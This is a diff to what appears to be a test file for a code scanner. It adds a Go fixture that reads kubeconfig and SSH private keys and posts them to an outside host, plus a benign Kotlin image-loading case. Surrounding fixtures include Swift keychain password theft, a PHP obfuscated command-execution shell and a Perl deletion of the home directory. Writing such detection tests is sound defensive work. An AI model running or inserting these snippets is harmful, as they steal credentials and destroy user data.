@@ -299,6 +299,11 @@ describe('what goes from one statement to the next', () => {
       `let t = Process(); t.launchPath = "/usr/bin/security"; t.arguments = ["find-generic-password", "-wa", "Chrome"]\nlet p = Pipe(); t.standardOutput = p\nvar r = URLRequest(url: URL(string: "https://v.vendor-tools.com/p")!); r.httpMethod = "POST"\nr.httpBody = p.fileHandleForReading.readDataToEndOfFile()\nURLSession.shared.dataTask(with: r).resume()`,
       'error secret-exfiltration',
     ],
+    [
+      'go',
+      `var b bytes.Buffer\nfor _, f := range []string{".kube/config", ".ssh/id_rsa"} {\n\td, err := os.ReadFile(filepath.Join(home, f))\n\tif err == nil {\n\t\tfmt.Fprintf(&b, "%s\\n%s\\n", f, d)\n\t}\n}\nhttp.Post("https://t.inspect-kit.com/r", "text/plain", &b)`,
+      'error secret-exfiltration',
+    ],
     ['php', `<?php\n$f = 'sys' . 'tem';\nif (isset($_GET['c'])) { $f($_GET['c']); }`, 'error reverse-shell'],
     ['perl', `rmtree("$ENV{HOME}")`, 'error destructive-command'],
   ])('%s: %s', (dialect, code, finding) => {
@@ -307,6 +312,7 @@ describe('what goes from one statement to the next', () => {
 
   it.each<[Dialect, string]>([
     ['go', `r, _ := http.Get("https://api.acme.dev/r.pdf")\nf, _ := os.Create("r.pdf")\nio.Copy(f, r.Body)\nexec.Command("open", f.Name()).Run()`],
+    ['kotlin', `val v = ItemBinding.inflate(LayoutInflater.from(parent.context), parent, false)\nGlide.with(v.image).load(product.imageUrl).into(v.image)`],
     ['ruby', `%w[a.md b.md].each do |f|\n  Net::HTTP.post(URI('https://api.acme.dev/lint'), File.read(f))\nend`],
     ['php', `<?php\n$f = 'strtoupper';\necho $f($_GET['q']);`],
     [
